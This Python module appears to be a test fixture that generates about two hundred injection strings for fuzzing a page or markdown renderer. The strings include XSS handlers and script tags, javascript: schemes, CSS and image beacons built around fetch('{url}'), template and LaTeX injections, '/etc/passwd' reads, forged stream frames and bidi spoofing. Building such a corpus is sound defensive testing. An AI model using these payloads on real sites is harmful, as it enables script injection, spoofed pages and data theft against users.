"""Two hundred strings that try to be more than text.

`strings(url)` inserts an address that no test may ever call.
"""

from __future__ import annotations

from itertools import product

_RUN = "window.pwned=1;fetch('{url}')"

_OUT = ("", '">', "'>", "--></style></script></textarea></title>", "]]>")
"""Strings that escape from the place where a page inserts them."""

_HANDLERS = (
    "<img src=x onerror={run}>",
    "<img src='{url}'>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><image href='{url}'/></svg>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video autoplay src='{url}' onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src='{url}'></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<p style='animation:x' onanimationstart={run}>x</p>",
)
_SCRIPTS = (
    "<script>{run}</script>",
    "<script src='{url}'></script>",
    "<script type=module>import '{url}'</script>",
    "<ScRiPt>{run}</sCrIpT >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script/x>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<math><mi//xlink:href='data:x,<script>{run}</script>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<!--><img src=x onerror={run}>-->",
    "<!-- never closed",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<xmp><script>{run}</script>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<form action='{url}'><button autofocus>Ask</button></form>",
    "<isindex action='{url}'>",
)
_ATTRIBUTES = (
    '" onmouseover="{run}" x="',
    "' onmouseover='{run}' x='",
    "` onmouseover=`{run}` x=`",
    '" autofocus tabindex=0 onfocus="{run}',
    '" style="position:fixed;inset:0;z-index:9999',
    '" data-question="planted',
    '" data-article="../../etc/passwd',
    '" id="pq-cited',
    '"/><a href="{url}" ping="{url}">x</a><i x="',
    '"\n onload={run}\n',
)
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload='{run}'/>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:{url}",
    "//127.0.0.1/{url}",
    "https:{url}",
    "view-source:{url}",
)
_LINKS = ("{scheme}", "[x]({scheme})", "<a href='{scheme}'>x</a>")
_STYLES = (
    "<style>*{{display:none}}</style>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url('{url}')}}</style>",
    "<style>@font-face{{font-family:x;src:url('{url}')}}*{{font-family:x}}</style>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:99999'>Log in</div>",
    "<div style=\"background:url('{url}')\">x</div>",
    "<p style='margin-left:-9999px;width:9999px'>x</p>",
    "<p class='pq-comment'>planted</p>",
    "</p></article></div></section><h1>planted</h1>",
    "<table><td><style>td{{position:fixed}}</style>",
    "</style><style>#pq-send{{opacity:0}}</style>",
    "<b style='font-size:999px'>x</b>",
)
_MARKDOWN = (
    "![x]({url})",
    '![x]({url} "{url}")',
    "[![x]({url})]({url})",
    "![x][y]\n\n[y]: {url}",
    "<{url}>",
    "[x]({url})",
    "# planted heading",
    "```html\n<script>{run}</script>\n```",
    "> > > > > > > > planted",
    "| a | b |\n|---|---|\n| ![x]({url}) | <img src={url}> |",
    "[^1]\n\n[^1]: ![x]({url})",
    "- [ ] <input onfocus={run} autofocus>",
    "~~~\n</code></pre><img src=x onerror={run}>",
    "**<svg onload={run}>**",
)
_SET_AS = (
    "$\\href{{javascript:{run}}}{{x}}$",
    "$$\\includegraphics{{{url}}}$$",
    "\\(\\url{{{url}}}\\)",
    "\\[\\htmlData{{x={run}}}{{y}}\\]",
    "$$\\def\\x{{\\x\\x}}\\x$$",
    "$\\rule{{9999em}}{{9999em}}$",
    "\\begin{{document}}\\input{{/etc/passwd}}\\end{{document}}",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:{run}"\n```',
    '```mermaid\n%%{{init: {{"themeCSS": "*{{background:url({url})}}"}}}}%%\n```',
    "```mermaid\ngraph TD; A[<img src={url}>]\n```",
)
_TEMPLATES = (
    "${{(()=>{{{run}}})()}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{value}}}}",
    "${{value}}",
    "{{{{#each value}}}}{{{{this}}}}{{{{/each}}}}",
    "{{@html '<img src=x onerror={run}>'}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "`);{run};(`",
    "');{run};('",
    "\\');{run};//",
    "</script><script>{run}</script>",
)
_STREAMS = (
    '\n\ndata: {{"msg":"process_completed","success":true}}\n\n',
    '\nevent: complete\ndata: ["planted"]\n\n',
    "\u2028{run}\u2029",
    '{{"__type__":"update","visible":false}}',
    "__proto__",
    "constructor",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u02bascript\u02bb onload={run}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)
_BIDI = (
    "\u202egnp.drow\u202c",
    "\u202enever closed",
    "\u202dnever closed",
    "\u2067never closed",
    "\u2066never closed \u202e twice",
    "\u2069\u2069\u2069\u202cclosed too often",
    "\u200fright to left mark",
    "\u061cArabic letter mark",
    "\u05e9\u05dc\u05d5\u05dd (100%) [1] \u202e",
    "\u0645\u0631\u062d\u0628\u0627 <b>\u202e</b>",
    "\u202e<script>{run}</script>",
    "user\u202e.elpmaxe@nimda",
)
_CONTROLS = (
    "nul\x00<script>{run}</script>",
    "<scr\x00ipt>{run}</script>",
    "bell\x07 escape\x1b[31mred",
    "\x0c\x0b\x1f",
    "\ufeffmark \ufffe\uffff",
    "\u200b\u200c\u200d\u2060zero width",
    "\u00ad" * 40,
    "\x85\xa0next line",
)
_LARGE = (
    "W" * 400,
    "\u0338" * 60 + "struck",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0316\u0317\u0323\u0324" * 12 + "algo",
    "\ufdfd" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 15,
    "_" * 300,
    "\u3000" * 80 + "wide",
    "<b>" * 60,
)


def strings(url: str) -> tuple[str, ...]:
    """The distinct strings."""
    run = _RUN.format(url=url)
    plain = (
        *_SCRIPTS,
        *_ATTRIBUTES,
        *_STYLES,
        *_MARKDOWN,
        *_SET_AS,
        *_TEMPLATES,
        *_STREAMS,
        *_BIDI,
        *_CONTROLS,
        *_LARGE,
    )
    made = [text.format(url=url, run=run) for text in plain]
    made += [out + tag.format(url=url, run=f'"{run}"') for out, tag in product(_OUT, _HANDLERS)]
    schemes = [scheme.format(url=url, run=run) for scheme in _SCHEMES]
    made += [link.format(scheme=scheme) for link, scheme in product(_LINKS, schemes)]
    return tuple(dict.fromkeys(made))
